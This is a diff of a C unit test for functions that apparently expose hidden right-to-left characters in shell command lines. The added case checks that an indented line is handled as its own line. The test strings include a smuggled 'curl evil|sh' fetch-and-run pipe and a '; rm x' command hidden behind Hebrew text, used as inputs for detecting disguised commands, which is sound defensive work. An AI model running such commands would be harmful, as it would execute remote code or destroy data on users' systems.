@@ -90,6 +90,9 @@ t_visible_turned(void **st)
 	    ": ⟦U+05D0⟧ ; curl evil|sh #");
 	assert_string_equal(VIS("\xd7\xa9\xd7\x9c 12\nls \xd8\xa7\n\xd8\xa7"),
 	    "\xd7\xa9\xd7\x9c 12\nls ⟦U+0627⟧\n\xd8\xa7");
+	/* A line that is indented is a line of its own, too. */
+	assert_string_equal(VIS("ls\n\t: \xd7\x90 ; rm x\n  \xd7\x90"),
+	    "ls\n\t: ⟦U+05D0⟧ ; rm x\n  \xd7\x90");
 	assert_string_equal(LINE("\xd7\xa9\nls"), "⟦U+05E9⟧⟦U+000A⟧ls");
 	assert_string_equal(VIS("\xf0\x9e\xa4\x80 x \xef\xad\x90 "
 	    "\xf0\x90\xa4\x80 \xef\xba\x8d"),
